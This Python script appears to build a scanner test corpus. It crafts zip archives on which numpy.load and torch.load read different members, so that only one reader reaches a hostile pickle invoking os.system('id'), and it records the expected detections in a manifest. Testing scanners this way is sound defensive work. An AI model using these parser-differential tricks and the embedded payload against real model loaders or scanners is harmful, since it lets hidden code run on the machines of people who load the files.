#!/usr/bin/env python3
"""Generates corpus/views/zip_*: zip archives on which CPython's zipfile
(numpy.load's reader for .npz) and PyTorch's miniz-based reader
(torch.load) read different bytes, each built from raw records so that
exactly one reader reaches a hostile pickle (docs/formats.md, "Zip: the
two readers"). Adds its rows to corpus/views/MANIFEST.tsv (same columns
as gen_views.py writes; other rows are kept).

The .npz samples keep their members under d/ with a d/version record, so
that PyTorch's reader (which wants every record under one directory and a
version record) opens them too and tests/test_zip.py can show what each
reader reads. Hostile bytes are assembled by hand and never unpickled
here. Needs only
the standard library. Deterministic.

    python3 corpus/views/gen/gen_zip.py corpus/views
"""
import os
import struct
import sys
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
ROWS = []

# os.system('id') at protocol 2, raw opcodes (never unpickled)
MAL = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
BENIGN = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."  # {'a': 1}


def npy(descr, body, shape="(1,)"):
    hdr = ("{'descr': %s, 'fortran_order': False, 'shape': %s, }"
           % (descr, shape)).encode()
    hdr += b" " * (63 - (10 + len(hdr)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + body


NPY_OK = npy("'<f8'", struct.pack("<d", 1.5))
NPY_EVIL = npy("'|O'", MAL)


def lfh(name, data, lname=None, lsize=None):
    lname = name if lname is None else lname
    size = len(data) if lsize is None else lsize
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21,
                       zlib.crc32(data), size, size, len(lname), 0) + lname + data


def cdh(name, data, off):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0,
                       0x21, zlib.crc32(data), len(data), len(data),
                       len(name), 0, 0, 0, 0, 0, off) + name


def eocd(n, size, off, comment=b"", clen=None):
    clen = len(comment) if clen is None else clen
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, size, off,
                       clen) + comment


class Z:
    """Local records laid out in order; directories built on demand."""

    def __init__(self):
        self.buf = b""
        self.at = {}

    def add(self, key, name, data, **kw):
        self.at[key] = (len(self.buf), name, data)
        self.buf += lfh(name, data, **kw)

    def cd(self, keys, shift=0):
        return b"".join(cdh(self.at[k][1], self.at[k][2], self.at[k][0] - shift)
                        for k in keys)


def write(name, data, scan, oracle, note):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    ROWS.append((name, scan, oracle, note))


def torch_members(z, prefix, tag, pkl):
    z.add(tag + "pkl", prefix + b"/data.pkl", pkl)
    z.add(tag + "ver", prefix + b"/version", b"3\n")
    z.add(tag + "bo", prefix + b"/byteorder", b"little")


def cd_shift_npz():
    # zipfile reads the directory right before the end record, offsets
    # shifted by concat = its position - the declared offset; miniz reads
    # the one at the declared offset, offsets absolute
    z = Z()
    z.add("ok", b"d/a.npy", NPY_OK)
    z.add("evil", b"d/a.npy", NPY_EVIL)
    z.add("ver", b"d/version", b"3\n")
    cd_m = z.cd(["ok", "ver"])
    k = len(cd_m)
    cd_z = z.cd(["evil", "ver"], shift=k)
    p = len(z.buf)
    data = z.buf + cd_m + cd_z + eocd(2, len(cd_z), p)
    write("zip_cd_shift.npz", data, "critical@d/a.npy", "numpy",
          "two central directories: the end record's offset names one "
          "(miniz), zipfile reads the one right before the end record and "
          "shifts every offset by the difference (concat): only numpy.load "
          "reaches the object array")


def cd_shift_pt():
    z = Z()
    z.add("pad", b"pad/pad", b"\x00" * 200)
    torch_members(z, b"archive", "ok", BENIGN)
    z.add("evil", b"archive/data.pkl", MAL)
    m_keys = ["evil", "okver", "okbo"]
    cd_m = z.cd(m_keys)
    k = len(cd_m)
    cd_z = z.cd(["okpkl", "okver", "okbo"], shift=k)
    assert len(cd_z) == len(cd_m)
    p = len(z.buf)
    data = z.buf + cd_m + cd_z + eocd(3, len(cd_z), p)
    write("zip_cd_shift.pt", data, "critical@archive/data.pkl", "torch",
          "two central directories: miniz (torch.load) reads the one at the "
          "declared offset, whose data.pkl is hostile; zipfile reads the "
          "other (concat shift), whose data.pkl is benign")


def eocd_in_comment():
    # the last end record is inside the comment of an earlier one whose
    # comment reaches the end of the file: both readers take the last
    z = Z()
    z.add("ok", b"d/a.npy", NPY_OK)
    z.add("evil", b"d/a.npy", NPY_EVIL)
    z.add("ver", b"d/version", b"3\n")
    cd_b = z.cd(["ok", "ver"])
    p = len(z.buf)
    cd_e = z.cd(["evil", "ver"])
    pe = p + len(cd_b) + 22
    tail = cd_e + eocd(2, len(cd_e), pe, b"", clen=5)
    data = z.buf + cd_b + eocd(2, len(cd_b), p, tail)
    write("zip_eocd_in_comment.npz", data, "critical@d/a.npy", "numpy",
          "an end record hidden in the comment of another whose comment "
          "reaches the end: zipfile (data.rfind) and miniz (backward "
          "search) both take the last one, whose directory holds the "
          "object array; a reader preferring a comment that fits takes "
          "the first")


def zip64_locator():
    z = Z()
    z.add("ok", b"d/a.npy", NPY_OK)
    z.add("evil", b"d/a.npy", NPY_EVIL)
    z.add("ver", b"d/version", b"3\n")
    cd_b = z.cd(["ok", "ver"])
    cd_e = z.cd(["evil", "ver"])
    p_b = len(z.buf)
    p_r64m = p_b + len(cd_b)

    def r64(size, off):
        return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 2, 2,
                           size, off)
    p_e = p_r64m + 56
    p_r64z = p_e + len(cd_e)
    loc = struct.pack("<IIQI", 0x07064B50, 0, p_r64m, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF,
                      0xFFFFFFFF, 0xFFFFFFFF, 0)
    data = (z.buf + cd_b + r64(len(cd_b), p_b) + cd_e + r64(len(cd_e), p_e)
            + loc + end)
    assert len(z.buf + cd_b + r64(0, 0) + cd_e) == p_r64z
    write("zip64_locator.npz", data, "critical@d/a.npy", "numpy",
          "zip64 locator pointing at a zip64 end record other than the one "
          "right before it: miniz follows the pointer (benign directory), "
          "zipfile's _EndRecData64 reads the record before the locator "
          "(the object array)")


def dup_names():
    z = Z()
    z.add("ok", b"d/a.npy", NPY_OK)
    z.add("evil", b"d/a.npy", NPY_EVIL)
    z.add("ver", b"d/version", b"3\n")
    cd = z.cd(["ok", "evil", "ver"])
    p = len(z.buf)
    write("zip_dup_names.npz", z.buf + cd + eocd(3, len(cd), p),
          "critical@d/a.npy", "numpy",
          "the same name twice: zipfile's NameToInfo keeps the last entry, "
          "the object array")


def case_pt():
    z = Z()
    z.add("pkl", b"archive/DATA.PKL", MAL[:-1])
    z.add("ver", b"archive/version", b"3\n")
    z.add("bo", b"archive/byteorder", b"little")
    cd = z.cd(["pkl", "ver", "bo"])
    p = len(z.buf)
    write("zip_case.pt", z.buf + cd + eocd(3, len(cd), p),
          "critical@archive/DATA.PKL", "torch",
          "data.pkl spelled archive/DATA.PKL, without its STOP: miniz's "
          "mz_zip_reader_locate_file ignores case, torch.load unpickles it "
          "(os.system is imported before the pickle runs out)")


def prefix_pt():
    z = Z()
    torch_members(z, b"x", "evil", MAL)
    z.add("ok", b"x/archive/data.pkl", BENIGN)
    cd = z.cd(["evilpkl", "evilver", "evilbo", "ok"])
    p = len(z.buf)
    write("zip_prefix.pt", z.buf + cd + eocd(4, len(cd), p),
          "critical@x/data.pkl", "torch",
          "record prefix x/, not archive/: PyTorchStreamReader::init takes "
          "the first record's directory, so torch.load reads x/data.pkl "
          "(x/archive/data.pkl is a benign decoy)")


def local_name_pt():
    z = Z()
    z.add("pkl", b"archive/data.pkl", MAL, lname=b"archive/notes.txt",
          lsize=0)
    z.add("ver", b"archive/version", b"3\n")
    z.add("bo", b"archive/byteorder", b"little")
    cd = z.cd(["pkl", "ver", "bo"])
    p = len(z.buf)
    write("zip_local_name.pt", z.buf + cd + eocd(3, len(cd), p),
          "critical@archive/data.pkl", "torch",
          "local header name and sizes differ from the central directory: "
          "miniz uses the directory's (zipfile refuses the member)")


def member_view():
    z = Z()
    z.add("m", b"inner.bin", MAL + eocd(0, 0, 0))
    cd = z.cd(["m"])
    p = len(z.buf)
    write("zip_member_view.zip", z.buf + cd + eocd(1, len(cd), p),
          "critical@inner.bin", "-",
          "a member that is a raw pickle followed by an empty end record: "
          "a zip to a sniffer, a pickle to pickle.load(zipfile.open(...)); "
          "members get the raw view the top level gets")


def main():
    os.makedirs(OUT, exist_ok=True)
    member_view()
    cd_shift_npz()
    cd_shift_pt()
    eocd_in_comment()
    zip64_locator()
    dup_names()
    case_pt()
    prefix_pt()
    local_name_pt()
    mpath = os.path.join(OUT, "MANIFEST.tsv")
    lines = {}
    if os.path.exists(mpath):
        with open(mpath) as f:
            for ln in f.read().splitlines()[1:]:
                lines[ln.split("\t")[0]] = ln
    for r in ROWS:
        lines[r[0]] = "\t".join(r)
    with open(mpath, "w") as f:
        f.write("file\tscan\toracle\tnote\n")
        for k in sorted(lines):
            f.write(lines[k] + "\n")


if __name__ == "__main__":
    main()
